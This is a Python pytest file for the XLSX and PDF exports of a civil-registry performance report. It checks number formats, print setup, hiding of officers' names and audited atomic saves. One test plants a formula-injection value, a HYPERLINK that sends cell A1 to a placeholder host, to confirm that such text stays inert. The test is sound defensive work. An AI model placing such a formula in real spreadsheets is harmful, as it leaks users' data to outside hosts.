"""The performance report's files: the XLSX holds real numbers and dates (read back with
openpyxl), a title and a print setup, no formulas from typed text and no officers' names for a
non-supervisor; every export is whole or absent and audited with its SHA-256."""

from __future__ import annotations

import hashlib
import io
import json
import sys
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select, update

from desktop_app.core import performance
from desktop_app.core.errors import ValidationError
from desktop_app.core.models import AuditEntry, Request, Service
from desktop_app.core.performance.xlsx import HEADER_ROW
from desktop_app.core.spreadsheet import is_formula_like

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
import performance_data  # noqa: E402
from performance_data import MONTH  # noqa: E402

TODAY = date(2026, 12, 15)
AT = datetime(2026, 12, 1, 1, 30, tzinfo=performance_data.WIB)


@pytest.fixture
def month(db, petugas, supervisor):
    return performance_data.build_month(db)


def workbook(data: bytes):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(data))


def rows_from(ws, first: int = HEADER_ROW):  # type: ignore[no-untyped-def]
    """{first cell: [cells...]} of a sheet's table."""
    return {
        row[0].value: row for row in ws.iter_rows(min_row=first + 1) if row[0].value is not None
    }


def test_the_workbook_has_real_numbers_dates_and_a_print_setup(db, supervisor, month):
    report = performance.build_report(db, supervisor, month=MONTH, today=TODAY)
    data = performance.render(db, supervisor, report, ".xlsx", generated_at=AT)
    wb = workbook(data)
    assert wb.sheetnames == [
        "Ringkasan", "Layanan", "Kanal", "Petugas", "Sisa terbuka", "Per hari", "Per minggu",
        "Legalisir", "Cara menghitung",
    ]  # fmt: skip
    for ws in wb.worksheets:
        assert ws["A1"].value.startswith("Laporan Kinerja Layanan Administrasi Kependudukan")
        assert "1\u201330 November 2026" in ws["A2"].value
        assert int(ws.page_setup.paperSize) == 9  # A4
        assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage
        assert ws.print_title_rows == "$5:$5"
        assert "Halaman &P dari &N" in ws.oddFooter.right.text

    summary = rows_from(wb["Ringkasan"])
    assert summary["Permohonan diterima"][1].value == report.totals.received
    assert isinstance(summary["Permohonan diterima"][1].value, int)
    pct = summary["Selesai dalam standar (%)"][1]
    assert pct.value == pytest.approx(report.totals.within / report.totals.finished)
    assert pct.number_format == "0.0%"

    services = rows_from(wb["Layanan"])
    for s in report.services:
        cells = services[s.code]
        assert [c.value for c in cells[2:6]] == [s.target_days, s.received, s.finished, s.within]
        assert all(isinstance(c.value, int) for c in cells[2:6])
        if s.finished:
            assert cells[6].value == pytest.approx(s.within / s.finished)
        assert cells[7].value == s.median_days and cells[8].value == s.p90_days
        assert cells[9].value == s.rejected
    total = services["Jumlah"]
    assert total[3].value == report.totals.received and total[4].value == report.totals.finished

    days = rows_from(wb["Per hari"])
    first = next(iter(days.values()))
    assert isinstance(first[0].value, datetime) and first[0].value.date() == date(2026, 11, 1)
    assert first[0].number_format == "DD/MM/YYYY"
    assert first[2].value == "tidak" and first[7].value.date() == date(2026, 11, 2)
    assert sum(r[3].value for k, r in days.items() if isinstance(k, datetime)) == (
        report.totals.received
    )
    weeks = rows_from(wb["Per minggu"])
    assert [r[1].value.date() for r in weeks.values()] == [w.first_day for w in report.weeks]

    officers = rows_from(wb["Petugas"])
    assert "Budi Santoso" in officers
    budi = next(o for o in report.officers or () if o.name == "Budi Santoso")
    assert [c.value for c in officers["Budi Santoso"][1:5]] == [
        budi.recorded, budi.handled, budi.finished, budi.within,
    ]  # fmt: skip

    backlog = rows_from(wb["Sisa terbuka"])
    assert [c.value for c in backlog["Jumlah"][2:8]] == [
        *report.backlog.by_age, report.backlog.total, report.backlog.overdue,
    ]  # fmt: skip
    legal = rows_from(wb["Legalisir"])
    assert legal["Cetak ulang"][1].value == report.legal.reprints
    assert legal["Verifikasi: SAH"][1].value == report.legal.verification_results["valid"]
    notes = rows_from(wb["Cara menghitung"])
    assert set(notes) == {name for name, _text in performance.counting_notes()}


def test_a_non_supervisor_workbook_has_no_officer_names(db, petugas, month):
    report = performance.build_report(db, petugas, month=MONTH, today=TODAY)
    wb = workbook(performance.render(db, petugas, report, ".xlsx"))
    assert "Petugas" not in wb.sheetnames
    text = " ".join(
        str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value
    )
    for name in ("Budi Santoso", "Andi Wijaya", "Rina Marlina", "Kepala Seksi"):
        assert name not in text
    assert "Rincian per petugas hanya dimuat untuk supervisor." in text


def test_typed_text_never_becomes_a_formula(db, supervisor, month):
    evil = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")'
    with db.write() as s:
        s.execute(update(Service).where(Service.code == "KK").values(name=evil))
        first = s.scalars(
            select(Request.id).where(Request.status == "ditolak", Request.service_code == "KK")
        ).first()
        s.execute(update(Request).where(Request.id == first).values(reject_reason="@SUM(1+1)"))
    report = performance.build_report(db, supervisor, month=MONTH, today=TODAY)
    wb = workbook(performance.render(db, supervisor, report, ".xlsx"))
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    assert evil in seen  # reached the workbook as inert text
    kk = rows_from(wb["Layanan"])["KK"]
    # Shown exactly as typed, stored as text with Excel's quote prefix (stays text when edited).
    assert kk[1].data_type == "s" and kk[1].value == evil and kk[1].quotePrefix
    # The same text in the PDF is printed as text (markup characters escaped).
    pdf = performance.render(db, supervisor, report, ".pdf")
    text = " ".join(
        " ".join((page.extract_text() or "").split()) for page in PdfReader(io.BytesIO(pdf)).pages
    )
    assert 'KK – =HYPERLINK("http://conto' in text and '"&A1,"klik") ' in text  # (wrapped)


@pytest.fixture
def folder(tmp_path):
    path = tmp_path / "keluar"
    path.mkdir()
    return path


def test_export_is_audited_with_its_hash(db, supervisor, month, folder):
    out = folder / "kinerja.xlsx"
    saved = performance.export_report(db, supervisor, out, month=MONTH, today=TODAY)
    data = out.read_bytes()
    assert saved.path == out and saved.sha256 == hashlib.sha256(data).hexdigest()
    with db.read() as s:
        entry = s.scalars(
            select(AuditEntry).where(AuditEntry.action == "report.performance.export")
        ).one()
    detail = json.loads(entry.detail)
    assert detail["sha256"] == saved.sha256 and detail["file"] == "kinerja.xlsx"
    assert detail["officers"] is True
    assert [p.name for p in folder.iterdir()] == ["kinerja.xlsx"]


def test_bad_destinations_are_refused_before_any_work(db, supervisor, folder):
    with pytest.raises(ValidationError, match="berakhiran .pdf / .xlsx"):
        performance.export_report(db, supervisor, folder / "k.csv", month=MONTH, today=TODAY)
    with pytest.raises(ValidationError, match="Folder tujuan tidak ada"):
        performance.export_report(
            db, supervisor, folder / "tidak-ada" / "k.xlsx", month=MONTH, today=TODAY
        )
    assert list(folder.iterdir()) == []


def test_a_failed_write_leaves_the_old_file_and_no_audit(db, supervisor, folder, monkeypatch):
    from desktop_app.core import fileio

    report = performance.build_report(db, supervisor, month=MONTH, today=TODAY)
    data = performance.render(db, supervisor, report, ".xlsx")
    out = folder / "k.xlsx"
    out.write_bytes(b"old report")

    def broken_replace(src, dst):  # type: ignore[no-untyped-def]
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(fileio.os, "replace", broken_replace)
    with pytest.raises(ValidationError, match="Disk penuh"):
        performance.save_export(db, supervisor, report, data, out)
    assert out.read_bytes() == b"old report"
    assert [p.name for p in folder.iterdir()] == ["k.xlsx"]
    with db.read() as s:
        assert not s.scalars(
            select(AuditEntry).where(AuditEntry.action == "report.performance.export")
        ).all()


def test_render_refuses_other_file_types(db, supervisor):
    report = performance.build_report(db, supervisor, month=MONTH, today=TODAY)
    with pytest.raises(ValidationError, match="sebagai .csv; pilih .pdf / .xlsx"):
        performance.render(db, supervisor, report, ".csv")


def test_default_file_names():
    full = performance.PerformanceReport.__new__(performance.PerformanceReport)
    object.__setattr__(full, "month", "2026-11")
    object.__setattr__(full, "month_partial", False)
    object.__setattr__(full, "date_from", date(2026, 11, 1))
    object.__setattr__(full, "date_to", date(2026, 11, 30))
    assert performance.default_file_name(full) == "kinerja-2026-11.pdf"
    object.__setattr__(full, "month_partial", True)
    assert performance.default_file_name(full, ".xlsx") == "kinerja-2026-11-01_2026-11-30.xlsx"
